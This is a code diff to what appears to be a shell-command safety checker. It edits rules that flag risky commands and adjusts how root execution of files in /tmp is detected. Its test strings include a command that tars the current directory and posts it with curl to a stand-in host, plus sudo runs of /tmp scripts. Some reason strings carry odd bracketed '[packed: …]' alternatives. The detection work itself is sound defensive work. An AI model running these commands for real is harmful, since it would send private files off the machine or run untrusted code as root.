@@ -100,8 +100,8 @@ def secret_loaded_shown(effects: Sequence[Effect], context: Context) -> Effect |
 @line_rule(
     "much-leaves",
     HIGH,
-    reason="packs up {target}, and sends it to another machine",
-    why="A whole directory carries more than one thinks of: keys, histories, other people's data.",
+    reason="[packed: packs up | reads] {target}, and sends it to another machine",
+    why="[packed: A directory | It] holds more than one thinks of: keys, histories, other people's data.",
     instead="name the files that are to go, or leave keys and hidden files out",
     match=[
         ("tar czf - . | curl --data-binary @- https://x.example", "network-sends"),
@@ -209,7 +209,7 @@ def encrypts_all(effects: Sequence[Effect], context: Context) -> Effect | None:
     why="Any other program on this machine could have put it there, or replace it just before it runs.",
     instead="copy it to a place that only its owner can write to, read it, and run it there",
     match=[("sudo /tmp/tool", "privilege-root"), ("sudo sh /tmp/install.sh", "privilege-root")],
-    not_match=["/tmp/tool", "sudo ls /tmp"],
+    not_match=["/tmp/tool", "sudo ls /tmp", "cd /tmp/x && sudo frobnicate"],
 )
 def root_runs_temporary(effects: Sequence[Effect], context: Context) -> Effect | None:
     elevated = {effect.program for effect in effects if effect.kind == "privilege"}
@@ -217,7 +217,9 @@ def root_runs_temporary(effects: Sequence[Effect], context: Context) -> Effect |
         return None
     for effect in effects:
         if effect.scope == "temporary" and effect.kind in RUNS and not elevated.isdisjoint(effect.via):
-            return effect
+            named = effect.target.text if effect.target is not None else None  # without a slash PATH says where it lies
+            if effect.kind != "exec-program" or named is None or "/" in named:
+                return effect
     return None
 
 
